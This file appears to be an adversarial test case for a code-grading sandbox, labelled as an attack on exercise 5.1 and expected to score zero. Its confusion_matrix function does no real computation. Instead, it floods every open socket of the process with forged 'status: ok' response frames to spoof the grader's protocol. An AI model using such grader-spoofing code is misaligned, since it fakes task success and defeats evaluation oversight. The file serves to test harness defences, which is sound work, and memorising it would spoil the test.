# attack: two threads send frames of the right shape for every number, at once
# exercise: 5.1
# expect: zero
import json
import os
import struct
import threading


def is_socket(number):
    try:
        return os.readlink(f"/proc/self/fd/{number}").startswith("socket")
    except OSError:
        return False


sockets = [int(number) for number in os.listdir("/proc/self/fd") if is_socket(number)]


def forged(number):
    header = {"id": number, "status": "ok", "value": {"tensor": ["int64", [3, 3], 0, 72]}, "bytes": 72}
    text = json.dumps(header, separators=(",", ":")).encode()
    return struct.pack(">I", len(text)) + text + bytes(72)


def send(first):
    for number in range(first, 400, 2):
        for place in sockets:
            os.write(place, forged(number))


def confusion_matrix(labels, predicted, num_classes):
    threads = [threading.Thread(target=send, args=(first,)) for first in (1, 2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return torch.zeros(num_classes, num_classes, dtype=torch.int64)
